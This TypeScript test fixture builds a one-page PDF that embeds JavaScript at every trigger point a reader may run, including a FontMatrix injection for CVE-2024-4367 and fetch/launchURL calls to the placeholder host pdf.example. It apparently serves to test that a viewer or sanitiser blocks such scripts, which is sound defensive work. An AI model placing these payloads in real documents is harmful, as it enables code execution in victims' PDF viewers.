/**
 * A PDF of one page that says "Zahnspange", with a script wherever a reader may run one: on open, in its name tree, when its
 * page is shown, in a form field, in a link, and in its font matrix (CVE-2024-4367).
 */
export function scriptedPdf(): Buffer {
  const words = 'BT /F1 40 Tf 60 700 Td (Zahnspange) Tj ET 60 600 300 40 re f'
  const script =
    '<</S/JavaScript/JS(globalThis.ran=true; app.alert\\("ran"\\); app.launchURL\\("http://pdf.example"\\))>>'
  const matrix = '[1 2 3 4 5 (1\\); globalThis.ran=true; fetch\\("http://pdf.example"\\)//)]'
  return pdfOf([
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${script}/Names<</JavaScript<</Names[(ran) ${script}]>>>>/AcroForm<</Fields[6 0 R]/XFA(<xdp/>)>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/AA<</O ${script}>>/Annots[6 0 R 7 0 R]/Resources<</Font<</F1 5 0 R>>>>>>`,
    `<</Length ${words.length}>>\nstream\n${words}\nendstream`,
    `<</Type/Font/Subtype/Type1/BaseFont/Helvetica/FontMatrix ${matrix}>>`,
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(field)/V(x)/Rect[60 500 300 540]/A ${script}/AA<</PO ${script}/F ${script}>>>>`,
    '<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(javascript:globalThis.ran=true)>>>>',
  ])
}

function pdfOf(objects: readonly string[]): Buffer {
  let text = '%PDF-1.4\n'
  const offsets = objects.map((body, at) => {
    const offset = text.length
    text += `${at + 1} 0 obj\n${body}\nendobj\n`
    return offset
  })
  const size = objects.length + 1
  const lines = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const start = text.length
  text += `xref\n0 ${size}\n0000000000 65535 f \n${lines}trailer<</Size ${size}/Root 1 0 R>>\nstartxref\n${start}\n%%EOF`
  return Buffer.from(text, 'latin1')
}
